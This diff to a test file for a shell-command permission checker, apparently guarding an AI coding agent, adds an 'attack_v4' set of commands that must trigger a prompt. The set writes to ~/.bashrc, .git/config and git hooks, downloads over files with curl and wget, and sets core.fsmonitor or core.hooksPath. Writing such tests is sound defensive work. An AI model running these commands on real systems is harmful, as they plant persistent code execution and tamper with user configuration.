@@ -389,7 +389,7 @@ add("reopen_fd", "allow", ["echo x >/dev/stdout", "echo x >&2", "ls 2>/dev/stder
 
 # Class 2: option tables checked against the real --help.
 add("flag_tables", "passthrough", [
-    "xxd -r -p -C in ~/.bashrc", "xxd -C in out", "xxd in out", "xxd -r in out", "xxd -c8 in out", "xxd -ps in out",
+    "xxd -C in out", "xxd in out", "xxd -r in out", "xxd -c8 in out", "xxd -ps in out",
     "tree -o F", "tree -Lo 2 F", "tree -oL F 2", "tree -R -H x", "tree -RH x", "tree --fromfile x",
     "npm ls --logs-dir=/tmp/x", "npm ls --logs-dir /tmp/x", "npm ls --cache=/tmp/c", "pip list --log /tmp/x", "pip list --log=/tmp/x",
     "pip --log /tmp/x list", "pip list --python /tmp/evil", "pip list -o", "pip list --outdated", "pip list --index-url http://evil",
@@ -544,6 +544,17 @@ add("wrappers_eval", "allow", ["command ls", "/bin/ls", "/usr/bin/git status", "
     "make --version"])
 add("wrappers_eval", "passthrough", ["command cd @OUT@ && cat x", "command read x; echo $x", "/usr/local/bin/ls",
     "/usr/bin/../bin/sh", "command -p ls", "/bin/sh -c ls"])
+
+# A command that may write (not a read-only candidate) asks, immune, when
+# any of its words, option values or script tokens names a protected place.
+add("attack_v4", "ask", ["xxd -r -p -C in ~/.bashrc", "git log -1 --format=x --output=.git/config",
+    "go build -o .git/hooks/pre-commit ./src", "sort -o .git/config cfg.txt", "awk '{print > \".git/config\"}' f",
+    "curl -o ~/.bashrc http://x", "tar -xf a.tar -C .git", "unzip -o a.zip -d .git/hooks", "uniq notes.txt .git/config",
+    "tree -o .git/config", "git diff --output=.husky/pre-commit", "wget -O .mcp.json http://x", "gcc -o .git/hooks/post-merge x.c",
+    "git config core.fsmonitor 'touch /tmp/x'", "git config --local core.hooksPath /tmp", "git config include.path /tmp/x"],
+    immune=True)
+add("attack_v4", "passthrough", ["git commit -m 'update readme'", "git add .", "make test", "npm install",
+    "git remote add origin https://github.com/a/b", "git config user.name x"])
 
 # A third attack round.
 add("attack_v3", "passthrough", [
